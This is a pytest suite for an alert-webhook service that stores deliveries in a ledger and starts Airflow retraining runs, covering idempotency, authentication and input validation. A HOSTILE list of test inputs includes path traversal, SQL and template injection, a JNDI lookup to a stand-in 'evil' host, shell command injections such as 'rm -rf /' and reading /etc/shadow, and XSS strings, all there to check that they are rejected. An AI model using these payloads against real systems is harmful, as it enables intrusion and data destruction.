"""A delivery over HTTP, into a real ledger: stored first, started after, once."""

from __future__ import annotations

import asyncio
import json
import logging
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import anyio
import pytest
from fastapi import HTTPException
from fastapi.routing import APIRoute

from finrisk.alerting import app
from finrisk.alerting.app import MOST_BYTES, MOUNTED, alert_app
from finrisk.alerting.deliveries import read_delivery
from finrisk.alerting.receiving import Receiver
from finrisk.alerting.starting import AskedRun, start_waiting
from finrisk.alerting.tokens import TOKEN
from finrisk.config import Settings
from finrisk.ledger.inbox import Outcome
from finrisk.ledger.store import Ledger
from tests.alerting.factories import (
    CLASS,
    MODEL,
    NOW,
    PATH,
    Clock,
    FakeAirflow,
    Sender,
    alert,
    delivery,
    grafana_delivery,
    in_pieces,
    nested,
    settled,
)

LOSS = "FinRiskPerformanceLoss"


def stored(settings: Settings, model: str = MODEL) -> Any:
    with Ledger.open(settings) as ledger:
        return ledger.reruns(model)


@pytest.mark.parametrize("document", [delivery(), grafana_delivery()])
def test_an_alert_is_stored_and_its_run_started(
    sender: Sender, receiver: Receiver, settings: Settings, airflow: FakeAirflow, document: Any
) -> None:
    answer = sender.post(document)
    settled(receiver)

    (rerun,) = stored(settings)
    assert (answer.status_code, answer.json()) == (200, {"accepted": 1})
    assert (rerun.outcome, rerun.alert, rerun.started) == (Outcome.ACCEPTED, CLASS, NOW)
    (run,) = airflow.runs.values()
    assert (run.dag_id, run.run_id) == ("credit_risk_retraining", rerun.run_id)
    assert run.conf == {"look": "reserve", "reason": rerun.reason}


def test_delivered_again_it_starts_nothing_more(
    sender: Sender, receiver: Receiver, airflow: FakeAirflow, clock: Clock
) -> None:
    sender.post()
    for _ in range(3):
        clock.ahead(hours=4)
        assert sender.post().json() == {"repeated": 1}
    clock.ahead(days=30)
    assert sender.post().json() == {"too_old": 1}
    settled(receiver)

    assert len(airflow.asked) == 1


def test_another_of_its_class_cools_down_and_the_day_has_a_cap(
    sender: Sender, receiver: Receiver, airflow: FakeAirflow
) -> None:
    assert sender.post(delivery(alert(version="1"))).json() == {"accepted": 1}
    assert sender.post(delivery(alert(version="2"))).json() == {"cooling_down": 1}
    assert sender.post(delivery(alert(alertname=LOSS))).json() == {"capped": 1}
    assert sender.post(delivery(alert(model="fraud"))).json() == {"accepted": 1}
    settled(receiver)

    assert len(airflow.runs) == 2


def test_resolved_first_and_out_of_order_it_is_one_run(
    sender: Sender, receiver: Receiver, airflow: FakeAirflow
) -> None:
    assert sender.post(delivery(alert("resolved"))).json() == {"resolved": 1}
    assert sender.post(delivery(alert())).json() == {"accepted": 1}
    assert sender.post(delivery(alert("resolved"), alert())).json() == {
        "resolved": 1,
        "repeated": 1,
    }
    settled(receiver)

    assert len(airflow.runs) == 1


def test_what_is_not_ours_is_counted_and_not_asked_for_again(
    sender: Sender, settings: Settings
) -> None:
    answer = sender.post(
        delivery(alert(alertname="HighCPU"), alert(model="none"), alert("resolved"))
    )

    assert answer.status_code == 200
    assert answer.json() == {"unknown_alert": 1, "unknown_model": 1, "resolved": 1}
    assert stored(settings) == []


def test_while_airflow_is_away_it_is_stored_and_started_later_once(
    sender: Sender, receiver: Receiver, settings: Settings, airflow: FakeAirflow
) -> None:
    airflow.away = True
    assert sender.post().json() == {"accepted": 1}
    settled(receiver)
    (rerun,) = stored(settings)
    assert (rerun.started, airflow.runs) == (None, {})

    airflow.away = False
    restarted = Receiver(settings, airflow, receiver.clock)  # another process, the same ledger
    assert restarted.drain() == [rerun.run_id]
    assert restarted.drain() == []
    restarted.close()

    assert list(airflow.runs) == [rerun.run_id]
    assert stored(settings)[0].started == NOW


class Stuck(FakeAirflow):
    """Starts nothing until it is let."""

    def __init__(self) -> None:
        super().__init__()
        self.begun, self.let = threading.Event(), threading.Event()

    def __call__(self, run: AskedRun) -> None:
        self.begun.set()
        assert self.let.wait(60)
        super().__call__(run)


@pytest.fixture
def stuck(settings: Settings, token: str) -> Iterator[tuple[Receiver, Stuck]]:
    """A receiver whose first start does not end."""
    airflow = Stuck()
    receiver = Receiver(settings, airflow, Clock())
    sender = Sender(alert_app(receiver, prefix=MOUNTED), token)
    sender.post()
    assert airflow.begun.wait(60)
    yield receiver, airflow
    airflow.let.set()
    sender.close()
    receiver.close()


def test_drains_do_not_pile_up_behind_a_start_that_takes_long(
    stuck: tuple[Receiver, Stuck], monkeypatch: pytest.MonkeyPatch
) -> None:
    receiver, airflow = stuck
    drained: list[int] = []
    monkeypatch.setattr(receiver, "drain", lambda: drained.append(1))

    for _ in range(5):
        receiver.drain_later()
    airflow.let.set()
    receiver._starting.submit(int).result(60)
    receiver.drain_later()
    settled(receiver)

    assert len(drained) == 2, "one for the five, and one after it"


def test_an_end_waits_for_the_start_that_was_begun_and_leaves_the_rest_pending(
    stuck: tuple[Receiver, Stuck], settings: Settings
) -> None:
    receiver, airflow = stuck
    asked = read_delivery(json.dumps(delivery(alert(model="fraud"))).encode())
    assert receiver.take(asked) == {"accepted": 1}

    with ThreadPoolExecutor(1) as pool:
        closing = pool.submit(receiver.close)
        while not receiver._starting._shutdown:
            time.sleep(0.001)
        airflow.let.set()
        closing.result(60)

    assert len(airflow.runs) == 1
    assert [rerun.started for rerun in stored(settings, "fraud")] == [None]


def test_one_alert_that_fails_unexpectedly_blocks_none_of_those_behind_it(
    settings: Settings, sender: Sender, receiver: Receiver, airflow: FakeAirflow
) -> None:
    airflow.away = True
    for document in (delivery(), delivery(alert(model="fraud"))):
        assert sender.post(document).json() == {"accepted": 1}
    settled(receiver)

    def start(run: AskedRun) -> None:
        if run.dag_id == "credit_risk_retraining":
            raise KeyError("conf")

    with Ledger.open(settings) as ledger:
        pending = sorted(ledger.pending_reruns(), key=lambda rerun: rerun.model)
        refused = pending[0].replace(run_id=None)
        started = start_waiting(ledger, [refused, *pending], start, Clock())

        assert started == [pending[1].run_id]
        assert ledger.pending_reruns() == [pending[0]]


def test_a_turn_is_not_given_to_the_next_while_the_work_still_runs(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(app, "WAIT_SECONDS", 0.05)
    let = threading.Event()

    async def two() -> tuple[Any, Any]:
        turn = anyio.CapacityLimiter(1)
        first = asyncio.create_task(app._in_turn(turn, lambda: let.wait(60)))
        second = asyncio.create_task(app._in_turn(turn, lambda: "beside it"))
        (beside,) = await asyncio.wait_for(asyncio.gather(second, return_exceptions=True), 60)
        let.set()
        return await first, beside

    done, refusal = asyncio.run(two())

    assert done is True, "what was stored is answered as stored, if late"
    assert isinstance(refusal, HTTPException)
    assert refusal.status_code == 503


def test_killed_between_start_and_note_it_is_one_run(
    receiver: Receiver, sender: Sender, settings: Settings, airflow: FakeAirflow
) -> None:
    """The run is there, the note is not: the drainer finds the run and notes it."""
    airflow.away = True
    sender.post()
    settled(receiver)
    airflow.away = False
    airflow(airflow.asked[0])

    restarted = Receiver(settings, airflow, receiver.clock)
    restarted.drain()
    restarted.close()

    assert len(airflow.runs) == 1
    assert stored(settings)[0].started is not None


def test_of_many_deliveries_at_once_one_starts_a_run(
    sender: Sender, receiver: Receiver, settings: Settings, airflow: FakeAirflow
) -> None:
    documents = [delivery(alert(version=str(number % 4))) for number in range(64)]

    answers = sender.together(documents)
    settled(receiver)

    assert {answer.status_code for answer in answers} == {200}
    assert sum(answer.json().get("accepted", 0) for answer in answers) == 1
    assert len(airflow.runs) == 1
    assert sum(rerun.deliveries for rerun in stored(settings)) == 64


def test_a_ledger_that_is_away_has_the_sender_come_again(
    settings: Settings, airflow: FakeAirflow, token: str, tmp_path: Path
) -> None:
    """Nothing was stored, so nothing may be answered that sounds as if."""
    away = settings.model_copy(
        update={"ledger_url": type(settings.ledger_url)(f"sqlite:///{tmp_path}/none/ledger.db")}
    )
    receiver = Receiver(away, airflow, Clock())
    sender = Sender(alert_app(receiver, prefix=MOUNTED), token)

    answer = sender.post()
    sender.close()
    settled(receiver)

    assert (answer.status_code, answer.headers["Retry-After"]) == (503, "5")
    assert airflow.asked == []


def test_a_changed_spec_is_read_and_a_broken_one_is_left_out(
    sender: Sender, settings: Settings
) -> None:
    spec = settings.home / "conf" / "models" / "credit_risk.yaml"
    rules = "\nmonitoring: {reruns: {alarms: []}}\n"
    spec.write_text(spec.read_text() + rules)
    assert sender.post().json() == {"only_tells": 1}

    spec.write_text("name: credit_risk")
    assert sender.post().json() == {"unknown_model": 1}
    assert sender.post(delivery(alert(model="fraud"))).json() == {"accepted": 1}


# who is let in


def routes(receiver: Receiver) -> Iterator[tuple[str, str]]:
    for route in alert_app(receiver, prefix=MOUNTED).routes:
        assert isinstance(route, APIRoute), "only our own routes: no docs, no schema"
        for method in route.methods:
            yield method, route.path


def test_every_route_and_every_other_path_wants_the_token(
    sender: Sender, receiver: Receiver, settings: Settings
) -> None:
    asked = [*routes(receiver), ("GET", "/"), ("GET", "/openapi.json"), ("GET", "/docs")]
    asked += [("GET", PATH), ("POST", f"{PATH}/"), ("DELETE", PATH), ("OPTIONS", PATH)]
    assert ("POST", PATH) in asked
    wrong = ["", "Bearer", "Bearer ", f"Basic {sender.token}", f"Bearer {sender.token}x"]
    wrong += [f"Bearer  {sender.token}", "Bearer " + "x" * 9000, sender.token]

    for method, path in asked:
        bare = sender.request(method, path)
        assert (bare.status_code, bare.content) == (401, b"")
        assert bare.headers["WWW-Authenticate"] == "Bearer"
        for one in wrong:
            answer = sender.request(method, path, headers={"Authorization": one})
            assert answer.status_code == 401, (method, path, one[:40])
    assert stored(settings) == []


def test_a_token_is_told_apart_by_a_comparison_that_tells_nothing(sender: Sender) -> None:
    bytes_no_text = {"Authorization": b"Bearer \xff\xfe\x80"}

    assert sender.request("POST", PATH, headers=bytes_no_text).status_code == 401


def test_health_says_nothing_but_that_the_ledger_answers(sender: Sender) -> None:
    answer = sender.request(
        "GET", f"{MOUNTED}/healthz", headers={"Authorization": f"bearer {sender.token}"}
    )

    assert (answer.status_code, answer.content) == (204, b"")


def test_without_a_token_file_nobody_is_let_in_and_senders_come_again(
    sender: Sender, settings: Settings
) -> None:
    (settings.keys / TOKEN).unlink()

    assert sender.post().status_code == 503
    assert stored(settings) == []


# what is let in


def test_a_large_body_is_refused_before_it_is_parsed(sender: Sender) -> None:
    huge = b'{"version": "4", "alerts": [' + b" " * 10_000_000 + b"]}"

    assert sender.post(content=huge).status_code == 413
    assert sender.post(content=in_pieces(huge, 65536)).status_code == 413
    lying = {"Content-Length": "10"}
    assert sender.post(content=in_pieces(huge, 65536), headers=lying).status_code == 413
    for said in ("9" * 5000, "-1", "1e3", "٣", "0x10"):
        header = [(b"content-length", said.encode())]
        assert sender.post(headers=dict(header)).status_code == 413, said[:10]


def test_a_body_of_just_the_size_is_read(sender: Sender) -> None:
    document = json.dumps(delivery())
    padded = document + " " * (MOST_BYTES - len(document))

    assert sender.post(content=padded.encode()).json() == {"accepted": 1}


def test_only_plain_json_is_read(sender: Sender) -> None:
    for headers in (
        {"Content-Type": "application/x-www-form-urlencoded"},
        {"Content-Type": "text/json"},
        {"Content-Type": ""},
        {"Content-Encoding": "gzip"},
    ):
        assert sender.post(headers=headers).status_code == 415


def bodies() -> Iterator[tuple[str, bytes]]:
    """Yield bodies that are no delivery."""
    texts = ["", " ", "null", "[]", "{}", "0", '"x"', "{", "\x00", "NaN", "Infinity", "\ufeff{}"]
    yield from ((repr(text), text.encode()) for text in texts)
    yield "no UTF-8", b'{"version": "4", "alerts": ["\xff\xfe"]}'
    yield "UTF-16", json.dumps(delivery()).encode("utf-16")
    for depth in (200, 40_000):
        yield from ((f"{text[:5]} x {depth}", text.encode()) for text in nested(depth))
    deep = next(nested(40_000))
    yield "deep inside", f'{{"version": "4", "alerts": [], "x": {deep}}}'.encode()
    changes: dict[str, Any] = {
        "version 5": {"version": "5"},
        "version as a number": {"version": 4},
        "no alerts": {"alerts": None},
        "alerts as an object": {"alerts": {"0": alert()}},
        "alerts of text": {"alerts": ["x"]},
        "too many alerts": {
            "alerts": [{"status": "resolved", "labels": {}, "startsAt": "x"}] * 1001
        },
    }
    for name, change in changes.items():
        yield name, json.dumps(delivery(**change)).encode()
    for name, one in {
        "no status": {"status": None},
        "another status": {"status": "pending"},
        "labels as a list": {"labels": [["alertname", CLASS]]},
        "a label that is a number": {"labels": {"alertname": CLASS, "model": 7}},
        "a label that is null": {"labels": {"alertname": CLASS, "model": None}},
        "a label that is a list": {"labels": {"alertname": [CLASS], "model": MODEL}},
        "no moment": {"startsAt": None},
        "a moment as a number": {"startsAt": 1772366400},
        "seconds as text": {"startsAt": "1772366400"},
        "no zone": {"startsAt": "2026-03-01T12:00:00"},
        "a day": {"startsAt": "2026-03-01"},
        "30 February": {"startsAt": "2026-02-30T12:00:00Z"},
        "a zone beyond": {"startsAt": "2026-03-01T12:00:00+99:00"},
        "a moment without end": {"startsAt": "2026-03-01T12:00:00." + "1" * 200_000 + "Z"},
    }.items():
        yield name, json.dumps(delivery(alert() | one)).encode()
    not_a_number = json.dumps(delivery()).replace('"2026-03-01T12:00:00+00:00"', "NaN")
    yield "NaN", not_a_number.encode()
    yield "half a surrogate", json.dumps(delivery(alert(x="?"))).replace("?", "\\ud800").encode()


@pytest.mark.parametrize(("name", "body"), [pytest.param(*one, id=one[0]) for one in bodies()])
def test_what_is_no_delivery_is_refused_and_nothing_is_stored(
    sender: Sender, settings: Settings, name: str, body: bytes
) -> None:
    answer = sender.post(content=body)

    assert answer.status_code == 422, (name, answer.text)
    assert len(answer.text) < 200
    assert stored(settings) == []


HOSTILE = [
    "../../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2f",
    "/absolute",
    "credit_risk/../fraud",
    "credit_risk\x00",
    "\x00",
    "credit_risk\n",
    "credit_risk\r\nSet-Cookie: x=1",
    " credit_risk",
    "credit_risk ",
    "Credit_Risk",
    "CREDIT_RISK",
    "'; DROP TABLE reruns; --",
    "' OR '1'='1",
    "credit_risk' UNION SELECT * FROM champions --",
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in y %}",
    "${jndi:ldap://evil/a}",
    "${HOME}",
    "$(touch /tmp/owned)",
    "`id`",
    "; rm -rf /",
    "| cat /etc/shadow",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "%s%s%s%n",
    "%(model)s",
    "credit_r\u0456sk",
    "credit\u202erisk",
    "credit\u200b_risk",
    "🙂" * 10,
    "a" * 100_000,
    "-1",
    "NaN",
    "Infinity",
    "1e308",
    "null",
    "None",
    "true",
    "[]",
    "{}",
    "__class__",
    "*",
    "",
    "\x1b[31mred",
    "credit_risk_retraining",
]


@pytest.mark.parametrize("place", ["model", "alertname", "tenant", "scope"])
def test_a_hostile_label_is_turned_away_and_never_seen_again(
    sender: Sender,
    receiver: Receiver,
    settings: Settings,
    airflow: FakeAirflow,
    caplog: pytest.LogCaptureFixture,
    place: str,
) -> None:
    caplog.set_level(logging.DEBUG, "finrisk")

    for text in HOSTILE:
        answer = sender.post(delivery(alert(**{place: text})))

        assert answer.status_code == 200, ascii(text)
        assert set(answer.json()) <= {"unknown_model", "unknown_alert", "other_scope"}, ascii(text)
        assert short(text) or text not in answer.text + caplog.text

    settled(receiver)
    assert stored(settings) == []
    assert airflow.asked == []


def test_hostile_text_elsewhere_leaves_no_trace_in_run_ledger_or_log(
    sender: Sender,
    receiver: Receiver,
    settings: Settings,
    airflow: FakeAirflow,
    clock: Clock,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Other labels, annotations, links and fingerprints are whatever somebody wrote."""
    caplog.set_level(logging.DEBUG, "finrisk")
    named = {"model": MODEL, "alertname": CLASS, "tenant": "live"}

    for text in HOSTILE:
        clock.ahead(days=8)  # beyond the cool-down: each one asks anew
        one = alert(began=clock.now) | {"annotations": {"summary": text}, "fingerprint": text}
        one["labels"] = {text: text, "feature": text} | named
        document = delivery(one, groupKey=text, receiver=text, commonLabels={text: text})

        answer = sender.post(document)

        assert answer.status_code == (200 if len(text) < 20_000 else 413), ascii(text)
        assert short(text) or text not in answer.text
    settled(receiver)

    reruns = stored(settings)
    assert len(reruns) == len(airflow.runs) == len([text for text in HOSTILE if len(text) < 20_000])
    assert {run.dag_id for run in airflow.runs.values()} == {"credit_risk_retraining"}
    written = f"{reruns} {airflow.asked} {caplog.text}".replace("credit_risk_retraining", "")
    assert [text for text in HOSTILE if not short(text) and text in written] == []


def batched(documents: list[Any], size: int) -> Iterator[list[Any]]:
    for start in range(0, len(documents), size):
        yield documents[start : start + size]


def short(text: str) -> bool:
    """Whether it is too short, or too plain a word, to be looked for in a log."""
    return len(text) < 6 or text.strip(" ") == MODEL


def test_the_token_is_in_no_log_and_no_answer(
    sender: Sender, receiver: Receiver, token: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)

    answers = [sender.post(), sender.post(content=b"{"), sender.post(path=f"/{token}x")]
    settled(receiver)

    assert not [one for one in answers if token in one.text]
    ours = [record for record in caplog.records if record.name.startswith("finrisk")]
    assert ours
    assert not [record for record in ours if token in record.getMessage()]


def test_ten_thousand_forged_or_replayed_alerts_start_nothing_more(
    sender: Sender, receiver: Receiver, settings: Settings, airflow: FakeAirflow, clock: Clock
) -> None:
    """S5: without the token, the same again, older than a day, and under new labels."""
    assert sender.post().json() == {"accepted": 1}
    good, before = sender.token, stored(settings)
    again = [delivery() for _ in range(1000)]
    replayed = [
        delivery(*(alert(began=NOW.replace(day=1, month=1), n=f"{n} {m}") for m in range(500)))
        for n in range(10)
    ]
    relabelled = [
        delivery(*(alert(n=f"{n} {m}") for m in range(500)))  # whoever has the token may try
        for n in range(4)
    ]
    forged = [delivery(alert(model="fraud", n=str(n))) for n in range(2000)]

    clock.ahead(minutes=1)
    sender.token = "forged"
    assert {answer.status_code for answer in sender.together(forged)} == {401}
    sender.token = good
    for some in batched([*again, *replayed, *relabelled], 50):
        for answer in sender.together(some):
            assert answer.status_code == 200
            assert "accepted" not in answer.json()
    settled(receiver)

    assert len(airflow.asked) == 1
    assert stored(settings, "fraud") == []
    assert len(stored(settings)) == len(before) + len(relabelled), "one row a delivery at most"
